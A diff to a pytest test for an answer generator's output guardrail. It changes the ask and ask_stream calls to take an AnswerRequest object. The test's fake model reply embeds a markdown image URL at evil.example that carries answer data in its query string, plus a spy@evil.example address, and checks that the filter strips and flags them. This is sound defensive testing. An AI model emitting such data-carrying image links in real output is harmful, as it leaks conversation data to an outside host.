@@ -7,6 +7,7 @@ import random
 
 import pytest
 
+from core.answer_request import AnswerRequest
 from generation.answerer import Answerer
 from generation.guardrails.output import MAX_HOLD, OutputStreamFilter, SourceText, screen_output
 from tests.support.fakes import FakeChatModel, FakeRetriever, make_chunk
@@ -155,11 +156,11 @@ def test_the_answerer_strips_and_flags_in_ask_and_in_the_stream() -> None:
     reply = ("Paris is the capital of France [1]. Details: https://docs.example/guide and "
              "![p](http://evil.example/p.png?d=paris) or mail spy@evil.example.")  # fmt: skip
     texts = ["Paris is the capital of France. More at https://docs.example/guide."]
-    answer = generated(reply, texts).ask("What is the capital of France?", "docs")
+    answer = generated(reply, texts).ask(AnswerRequest("What is the capital of France?", "docs"))
     assert answer.text == "Paris is the capital of France [1]. Details: https://docs.example/guide and or mail."
     events = [e for e in answer.guardrail_events if e.kind == "output_unsourced_link"]
     assert len(events) == 2 and all("evil.example" in e.detail for e in events)
-    stream = list(generated(reply, texts).ask_stream("What is the capital of France?", "docs"))
+    stream = list(generated(reply, texts).ask_stream(AnswerRequest("What is the capital of France?", "docs")))
     streamed = "".join(getattr(e, "text", "") for e in stream[:-1])
     final = stream[-1].answer  # type: ignore[attr-defined]
     assert final.text == answer.text and streamed.strip() == answer.text
